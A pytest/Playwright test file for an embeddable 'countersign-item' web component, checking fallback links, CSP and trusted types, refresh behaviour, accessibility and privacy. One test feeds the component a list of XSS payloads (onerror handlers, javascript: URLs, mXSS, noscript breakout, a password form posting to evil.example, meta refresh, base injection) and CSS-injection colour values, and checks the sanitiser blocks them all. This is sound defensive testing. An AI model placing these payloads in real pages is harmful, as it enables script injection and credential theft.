"""The custom elements on a page of somebody else, in Chromium.

What our server answers is played here, so that it can fail, lie and change its mind.
"""

import time

import pytest

from syndication.embeds import elements

from .browsing import CHROMIUM, check, in_chromium, wait_until
from .partner_site import Answer, Site, policy, style
from .partner_site import page as partners_page

# No test here needs a database.
pytestmark = [mark for mark in in_chromium if mark.name != "django_db"]

ID = "3e1f2d6c-0000-4000-8000-000000000001"
OTHER = "3e1f2d6c-0000-4000-8000-000000000002"
CORS = {"Access-Control-Allow-Origin": "*", "Cache-Control": "public, max-age=60"}
WAY_OUT = "Read about short breaks"
MINUTE = 60_000
VIOLATIONS = """
    window.violations = [];
    addEventListener("securitypolicyviolation", (event) =>
        violations.push(`${event.effectiveDirective} ${event.blockedURI}`));
"""


def fragment(words="Time for your child", *, heading=2, content_id=ID, inside=""):
    return f"""<article class="countersign" lang="en-GB" dir="ltr">
<h{heading}>Short breaks</h{heading}>
<p>{words}</p>{inside}
<footer><p>Agreed by PACC on 3 November 2026.
<a href="https://ours.example/items/{content_id}">Where this comes from</a></p></footer>
</article>"""


def item(content_id=ID, attributes="", inside=None):
    link = f'<a href="https://ours.example/items/{content_id}">{WAY_OUT}</a>'
    return (
        f'<countersign-item content-id="{content_id}" {attributes}>'
        f"{link if inside is None else inside}</countersign-item>"
    )


@pytest.fixture
def ours():
    """Our server, played."""
    with Site() as site:
        site.answers["/embed/countersign.js"] = Answer(
            elements.SOURCE.read_text(),
            content_type=elements.CONTENT_TYPE,
            headers=CORS,
        )
        site.answers[f"/fragments/{ID}.html"] = Answer(fragment(), headers=CORS)
        yield site


@pytest.fixture
def school():
    """A partner's website."""
    with Site() as site:
        site.answers["/site.css"] = style()
        yield site


@pytest.fixture
def visit(ours, school, page):
    """Open a page of the school's with this in it."""
    page.add_init_script(VIOLATIONS)

    def visit(body, *, script=f"{ours.origin}/embed/countersign.js", csp=""):
        school.answers["/page"] = partners_page(
            body, origin=ours.origin, script=script, csp=csp
        )
        page.goto(f"{school.origin}/page")
        return page.locator("countersign-item, countersign-list").first

    return visit


@pytest.fixture
def page(browser):
    context = browser.new_context(viewport={"width": 390, "height": 844})
    context.set_default_timeout(20_000)
    yield context.new_page()
    context.close()


def answer(ours, body, *, status=200, path=f"/fragments/{ID}.html"):
    ours.answers[path] = Answer(body, status=status, headers=CORS)


def later(page, minutes):
    page.clock.fast_forward(minutes * MINUTE)


def test_an_item_comes_in_the_place_of_its_link(visit, page, ours, school):
    shown = visit(item(attributes='heading="3"'), csp=policy(ours.origin))

    shown.get_by_text("Time for your child").wait_for()
    assert shown.get_by_text(WAY_OUT).count() == 0
    assert ours.count(f"/fragments/{ID}.html") == 1
    assert ours.requests[-1] == f"/fragments/{ID}.html?heading=3"
    assert shown.get_attribute("aria-busy") is None
    assert page.locator("[role=status]").count() == 0
    # Its fonts and headings are those of the page around it.
    heading = page.locator("countersign-item h2")
    assert heading.evaluate("one => getComputedStyle(one).color") == "rgb(90, 24, 70)"
    assert "Verdana" in heading.evaluate("one => getComputedStyle(one).fontFamily")
    article = page.locator("countersign-item article")
    assert article.get_attribute("lang") == "en-GB"
    assert article.get_attribute("dir") == "ltr"
    assert page.evaluate("violations") == []
    check(page, "element-item")


def test_nothing_of_the_reader_is_sent_and_nothing_is_kept(visit, page, ours, school):
    shown = visit(item())

    shown.get_by_text("Time for your child").wait_for()
    sent = ours.sent[-1]
    assert sent["Referer"] == f"{school.origin}/"
    assert "Cookie" not in sent
    assert page.context.cookies() == []
    assert page.evaluate("localStorage.length + sessionStorage.length") == 0
    assert {one.split("?")[0] for one in ours.requests} == {
        "/embed/countersign.js",
        f"/fragments/{ID}.html",
    }


def without_connections(origin):
    return policy(origin).replace(f"connect-src {origin}; ", "")


def without_scripts(origin):
    return policy(origin).replace(f"script-src {origin}; ", "")


def other_trusted_types(origin):
    lines = "require-trusted-types-for 'script'; trusted-types another"
    return f"{policy(origin)}; {lines}"


@pytest.mark.parametrize(
    "csp", [without_connections, without_scripts, other_trusted_types]
)
def test_the_link_stands_where_a_policy_forbids_the_text(visit, page, ours, csp):
    shown = visit(item(), csp=csp(ours.origin))

    page.wait_for_timeout(500)
    assert shown.get_by_role("link", name=WAY_OUT).is_visible()
    assert shown.get_attribute("aria-busy") is None


def test_the_link_stands_without_our_script(visit, page, ours):
    shown = visit(item(), script=f"{ours.origin}/nowhere.js")

    assert shown.get_by_role("link", name=WAY_OUT).is_visible()


def test_the_link_stands_in_a_browser_without_scripts(browser, ours, school):
    school.answers["/page"] = partners_page(
        item(), origin=ours.origin, script=f"{ours.origin}/embed/countersign.js"
    )
    context = browser.new_context(java_script_enabled=False)
    page = context.new_page()

    page.goto(f"{school.origin}/page")

    assert page.get_by_role("link", name=WAY_OUT).is_visible()
    assert ours.requests == []
    context.close()


@pytest.mark.parametrize("status", [400, 429, 500, 503])
def test_the_link_stands_when_our_server_fails(visit, page, ours, status):
    answer(ours, fragment("A mistake"), status=status)

    shown = visit(item())

    page.wait_for_timeout(500)
    assert shown.get_by_role("link", name=WAY_OUT).is_visible()
    assert shown.get_by_text("A mistake").count() == 0


def test_the_link_stands_when_something_else_answers(visit, page, ours):
    answer(ours, "<html><body><h1>Sign in to the guest network</h1></body></html>")

    shown = visit(item())

    page.wait_for_timeout(500)
    assert shown.inner_text() == WAY_OUT


def test_a_text_comes_once_our_server_answers_again(visit, page, ours):
    page.clock.install()
    answer(ours, "", status=503)
    shown = visit(item())
    page.wait_for_timeout(500)
    answer(ours, fragment())

    later(page, 16)

    shown.get_by_text("Time for your child").wait_for()


def test_a_text_waits_while_the_page_is_still_being_read(visit, page, ours):
    def slow():
        time.sleep(2)
        return Answer("// Late.", content_type=elements.CONTENT_TYPE)

    ours.answers["/slow.js"] = ours.answers["/slower.js"] = slow
    link = f'<a href="https://ours.example/items/{ID}">{WAY_OUT}</a>'
    between, inside = (
        f'<script src="{ours.origin}/{name}.js"></script>'
        for name in ("slow", "slower")
    )

    visit(item() + between + item(inside=inside + link))

    wait_until(
        page, "document.querySelectorAll('countersign-item article').length === 2"
    )
    assert page.get_by_text("Time for your child").count() == 2
    assert page.get_by_text(WAY_OUT).count() == 0


def test_what_demands_trusted_types_gets_them(visit, page, ours):
    shown = visit(item(), csp=policy(ours.origin, trusted_types=True))

    shown.get_by_text("Time for your child").wait_for()
    assert page.evaluate("violations") == []


HOSTILE = """
<script>window.pwned = "script"</script>
<img src="x" onerror="window.pwned = 'onerror'" alt="ours">
<img src="https://tracker.example/pixel.gif" alt="tracker">
<p onclick="window.pwned = 'onclick'" style="position: fixed" data-x="1" slot="x" is="x">Words</p>
<a href="javascript:window.pwned='link'">link one</a>
<a href=" java&#10;script:window.pwned='link'">link two</a>
<a href="data:text/html,<script>1</script>">link three</a>
<a href="https://example.org/leaflet" target="_blank" ping="https://tracker.example/">link four</a>
<svg><script>window.pwned = 'svg'</script><a xlink:href="javascript:1"><text>svg</text></a></svg>
<math><mtext><table><mglyph><style><img src=x onerror="window.pwned = 'math'"></style></table></math>
<form action="https://evil.example/"><input name="password"><button>Sign in</button></form>
<iframe srcdoc="<script>parent.pwned = 'frame'</script>"></iframe>
<object data="https://evil.example/"></object><embed src="https://evil.example/">
<template><p>template</p></template><style>body { display: none }</style>
<noscript><p title="</noscript><img src=x onerror=window.pwned='noscript'>">n</p></noscript>
<x-custom onload="1">Words in <mark>unknown</mark> elements</x-custom>
<p id="location" class="fixed countersign-note">Name</p>
<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/a.css">
<meta http-equiv="refresh" content="0; url=https://evil.example/">
"""
ACTIVE = """() => [...document.querySelectorAll("countersign-item article, countersign-item article *")]
    .flatMap((one) => [
        ...(one.matches("script, style, iframe, object, embed, form, input, button, svg, math,"
            + " template, noscript, link, meta, base, x-custom") ? [one.localName] : []),
        ...[...one.attributes].filter(({ name, value }) =>
            /^(on|id|style|data-x|slot|is|ping|srcdoc|target)/.test(name)
            || /^\\s*(javascript|data):/i.test(value)).map(({ name }) => name),
    ])"""


def test_nothing_active_comes_in_whatever_our_server_says(visit, page, ours):
    answer(ours, fragment(inside=HOSTILE))
    asked = []
    page.on("request", lambda request: asked.append(request.url))

    shown = visit(item(), csp="script-src 'unsafe-inline' *; default-src *")

    shown.get_by_text("Time for your child").wait_for()
    for link in page.locator("countersign-item a").all():
        if link.get_attribute("href") is None:
            link.dispatch_event("click")
    page.wait_for_timeout(300)
    assert page.evaluate("window.pwned") is None
    assert page.evaluate(ACTIVE) == []
    assert not [one for one in asked if "evil" in one or "tracker" in one]
    hrefs = page.locator("countersign-item a[href]").evaluate_all(
        "all => all.map((one) => one.href)"
    )
    assert hrefs == ["https://example.org/leaflet", f"https://ours.example/items/{ID}"]
    # Of what is dropped not even the words are left, which could ask for a password.
    words = page.locator("countersign-item").inner_text()
    assert not [one for one in ("pwned", "Sign in", "display:", "svg") if one in words]
    # What is unknown is unpacked, so that no word is lost; and nothing of ours may
    # be taken for something of the page's.
    shown.get_by_text("Words in unknown elements").wait_for()
    assert page.locator("#location").count() == 0
    assert page.locator(".fixed").count() == 0
    assert page.locator(".countersign-note").count() == 1


def test_several_elements_ask_once(visit, page, ours):
    visit(item() + item() + item(attributes='accent="#5a1846"'))

    wait_until(
        page, "document.querySelectorAll('countersign-item article').length === 3"
    )
    assert ours.count(f"/fragments/{ID}.html") == 1


def test_a_withdrawn_text_goes_while_the_page_stays_open(visit, page, ours):
    page.clock.install()
    shown = visit(item())
    shown.get_by_text("Time for your child").wait_for()
    answer(ours, fragment("This text was withdrawn."))

    later(page, 10)
    page.wait_for_timeout(200)
    assert ours.count(f"/fragments/{ID}.html") == 1
    later(page, 6)

    shown.get_by_text("This text was withdrawn.").wait_for()
    assert shown.get_by_text("Time for your child").count() == 0
    # Who is reading is told, and stays where they were.
    later(page, 1)
    status = shown.get_by_role("status")
    assert status.inner_text() == "This text changed while you had this page open."
    check(page, "element-changed")


def test_how_often_it_asks_is_up_to_the_page(visit, page, ours):
    page.clock.install()
    shown = visit(item(attributes='refresh="2"') + item(attributes='refresh="60"'))
    shown.get_by_text("Time for your child").wait_for()
    answer(ours, fragment("New words"))

    later(page, 3)

    wait_until(page, "document.body.innerText.split('New words').length === 3")


def test_nothing_moves_when_nothing_changed(visit, page, ours):
    page.clock.install()
    shown = visit(item())
    shown.get_by_text("Time for your child").wait_for()
    page.evaluate("window.before = document.querySelector('countersign-item article')")
    page.get_by_role("link", name="Where this comes from").focus()

    with page.expect_response(lambda one: "/fragments/" in one.url):
        later(page, 16)
    page.wait_for_timeout(300)

    assert page.evaluate(
        "before === document.querySelector('countersign-item article')"
    )
    assert (
        page.evaluate("document.activeElement.textContent") == "Where this comes from"
    )
    assert page.locator("[role=status]").count() == 0


def test_the_focus_stays_in_the_text_when_it_changes(visit, page, ours):
    page.clock.install()
    shown = visit(item())
    shown.get_by_text("Time for your child").wait_for()
    page.get_by_role("link", name="Where this comes from").focus()
    answer(ours, fragment("New words"))

    later(page, 16)
    shown.get_by_text("New words").wait_for()
    assert (
        page.evaluate("document.activeElement.textContent") == "Where this comes from"
    )

    answer(
        ours,
        '<article class="countersign" lang="en-GB"><h2>Withdrawn</h2></article>',
    )
    later(page, 16)
    shown.get_by_text("Withdrawn").wait_for()
    assert page.evaluate("document.activeElement.localName") == "article"
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.id") == "after"


def test_an_old_text_does_not_outlive_our_server(visit, page, ours):
    page.clock.install()
    shown = visit(item())
    shown.get_by_text("Time for your child").wait_for()
    page.get_by_role("link", name="Where this comes from").focus()
    answer(ours, "", status=503)

    later(page, 12 * 60)
    page.wait_for_timeout(300)
    assert shown.get_by_text("Time for your child").is_visible()
    later(page, 13 * 60)

    shown.get_by_role("link", name=WAY_OUT).wait_for()
    assert shown.get_by_text("Time for your child").count() == 0
    assert page.evaluate("document.activeElement.textContent") == WAY_OUT

    answer(ours, fragment("Back again"))
    later(page, 16)
    shown.get_by_text("Back again").wait_for()


@pytest.mark.parametrize("status", [404, 410])
def test_what_is_not_there_says_so_and_nothing_else(visit, page, ours, status):
    answer(ours, "<h1>Nothing</h1>", status=status)

    shown = visit(item())

    shown.get_by_text("This text is not available.").wait_for()
    assert shown.inner_text() == "This text is not available."
    check(page, f"element-unavailable-{status}")


def test_what_our_server_says_of_what_is_gone_is_shown(visit, page, ours):
    answer(
        ours,
        '<article class="countersign" lang="cy"><p>Nid yw ar gael.</p></article>',
        status=404,
    )

    shown = visit(item())

    shown.get_by_text("Nid yw ar gael.").wait_for()


def test_a_page_that_was_put_aside_asks_again(ours, school, browser):
    """Back in a browser shows a page as it was, without loading it."""
    school.answers["/page"] = partners_page(
        item(), origin=ours.origin, script=f"{ours.origin}/embed/countersign.js"
    )
    school.answers["/contact"] = partners_page("Ring us", origin=ours.origin)
    launched = browser.browser_type.launch(
        executable_path=CHROMIUM,
        args=["--no-sandbox"],
        ignore_default_args=["--disable-back-forward-cache"],
    )
    page = launched.new_page()
    page.goto(f"{school.origin}/page")
    page.get_by_text("Time for your child").wait_for()
    page.evaluate("window.kept = true")
    answer(ours, fragment("This text was withdrawn."))

    page.get_by_role("link", name="Contact the school").click()
    page.get_by_text("Ring us").wait_for()
    page.go_back(wait_until="commit")

    page.get_by_text("This text was withdrawn.").wait_for()
    assert page.get_by_text("Time for your child").count() == 0
    assert page.evaluate("window.kept"), "the browser loaded the page again"
    launched.close()


def test_other_attributes_give_another_text(visit, page, ours):
    answer(ours, fragment("Other words"), path=f"/fragments/{OTHER}.html")
    shown = visit(item())
    shown.get_by_text("Time for your child").wait_for()

    shown.evaluate(f"one => one.setAttribute('content-id', '{OTHER}')")
    shown.get_by_text("Other words").wait_for()
    assert page.locator("[role=status]").count() == 0

    shown.evaluate("one => one.setAttribute('heading', '4')")
    shown.get_by_text("Other words").wait_for()
    page.wait_for_timeout(200)
    assert ours.requests[-1] == f"/fragments/{OTHER}.html?heading=4"

    # The page's link speaks of the first text, so it cannot stand for another.
    answer(ours, "", status=503, path=f"/fragments/{ID.replace('1', '9')}.html")
    shown.evaluate(f"one => one.setAttribute('content-id', '{ID.replace('1', '9')}')")
    link = shown.get_by_role("link", name="Read this at")
    link.wait_for()
    assert link.get_attribute("href") == (f"{ours.origin}/items/{ID.replace('1', '9')}")


@pytest.mark.parametrize(
    ("attributes", "says"),
    [
        ('content-id="short-breaks"', "content-id is missing or not one of ours"),
        (f'content-id="{ID}" origin="javascript:1"', "origin is missing or no web"),
    ],
)
def test_wrong_attributes_leave_the_link_and_say_why(
    visit, page, ours, attributes, says
):
    warnings = []
    page.on("console", lambda message: warnings.append(message.text))

    shown = visit(
        f"<countersign-item {attributes}><a href='/x'>{WAY_OUT}</a></countersign-item>"
    )

    page.wait_for_timeout(500)
    assert shown.inner_text() == WAY_OUT
    assert says in "".join(warnings)
    assert not [one for one in ours.requests if one.startswith("/fragments/")]


@pytest.mark.parametrize("attributes", ['heading="1"', 'heading="h3"', 'refresh="no"'])
def test_small_mistakes_cost_no_text(visit, page, ours, attributes):
    shown = visit(item(attributes=attributes))

    shown.get_by_text("Time for your child").wait_for()
    assert ours.requests[-1] == f"/fragments/{ID}.html"


def test_a_list_asks_for_its_selection(visit, page, ours):
    path = "/fragments/news/shropshire.html"
    answer(ours, fragment("Three news items"), path=path)

    shown = visit(
        '<countersign-list kind="news" area="shropshire" limit="3" heading="4">'
        "<a href='/news'>All news</a></countersign-list>"
    )

    shown.get_by_text("Three news items").wait_for()
    assert ours.requests[-1] == f"{path}?limit=3&heading=4"


def test_colours_come_by_attribute_under_a_strict_policy(visit, page, ours):
    shown = visit(
        item(
            attributes='text-color="#ffffff" background="#1d3557" accent="#ffd166"',
        ),
        csp=policy(ours.origin, trusted_types=True),
    )

    shown.get_by_text("Time for your child").wait_for()
    looks = page.evaluate(
        """() => ["article", "article h2", "article a"].map((one) =>
            getComputedStyle(document.querySelector(`countersign-item ${one}`)).color)"""
    )
    assert looks == ["rgb(255, 255, 255)", "rgb(255, 255, 255)", "rgb(255, 209, 102)"]
    assert (
        page.locator("countersign-item [style], countersign-item[style]").count() == 0
    )
    assert page.evaluate("violations") == []
    check(page, "element-colours")

    shown.evaluate("one => one.setAttribute('accent', '#a8dadc')")
    link = page.locator("countersign-item a")
    assert link.evaluate("one => getComputedStyle(one).color") == "rgb(168, 218, 220)"


@pytest.mark.parametrize(
    "attributes",
    [
        'text-color="#ffd166" background="#ffffff"',
        'accent="#ffd166"',
        'background="#222222"',
        'accent="url(https://evil.example)"',
        'text-color="red; } body { display: none"',
    ],
)
def test_colours_that_nobody_could_read_are_not_taken(visit, page, ours, attributes):
    shown = visit(item(attributes=attributes))

    shown.get_by_text("Time for your child").wait_for()
    article = page.locator("countersign-item article")
    assert article.evaluate("one => getComputedStyle(one).color") == "rgb(34, 34, 34)"
    assert page.locator("countersign-item a").evaluate(
        "one => getComputedStyle(one).color"
    ) == ("rgb(11, 79, 108)")


def test_what_may_not_be_printed_is_not(visit, page, ours):
    answer(
        ours,
        fragment(
            inside='<div class="not-in-print">A voice</div>'
            '<div class="only-in-print">Left out</div>'
        ),
    )

    shown = visit(item())

    shown.get_by_text("A voice").wait_for()
    assert not shown.get_by_text("Left out").is_visible()
    page.emulate_media(media="print")
    assert not shown.get_by_text("A voice").is_visible()
    assert shown.get_by_text("Left out").is_visible()


def test_it_works_inside_a_shadow_tree_and_when_made_by_a_script(visit, page, ours):
    visit("<div id='host'></div>")

    page.evaluate(
        f"""() => {{
            const root = document.querySelector("#host").attachShadow({{ mode: "open" }});
            const one = document.createElement("countersign-item");
            one.setAttribute("content-id", "{ID}");
            root.append(one);
        }}"""
    )

    page.get_by_text("Time for your child").wait_for()


def test_the_keyboard_goes_through_in_the_order_of_the_page(visit, page, ours):
    shown = visit('<p><a href="/a" id="before">Before</a></p>' + item())
    shown.get_by_text("Time for your child").wait_for()

    page.locator("#before").focus()
    reached = []
    for _ in range(2):
        page.keyboard.press("Tab")
        reached.append(page.evaluate("document.activeElement.textContent"))

    assert reached == ["Where this comes from", "Contact the school"]


def test_who_was_at_the_link_is_taken_to_the_text(visit, page, ours):
    held = []
    page.route("**/fragments/**", lambda route: held.append(route))
    shown = visit(item())
    wait_until(page, "document.querySelector('countersign-item[aria-busy]')")
    shown.get_by_role("link").focus()

    held[0].continue_()

    shown.get_by_text("Time for your child").wait_for()
    assert page.evaluate("document.activeElement.localName") == "article"


def test_two_copies_of_the_script_do_no_harm(visit, page, ours):
    faults = []
    page.on("pageerror", lambda error: faults.append(str(error)))
    again = f'<script src="{ours.origin}/embed/countersign.js?ver=6.5"></script>'

    shown = visit(item() + again, csp=policy(ours.origin, trusted_types=True))

    shown.get_by_text("Time for your child").wait_for()
    assert faults == []
    assert page.evaluate("violations") == []
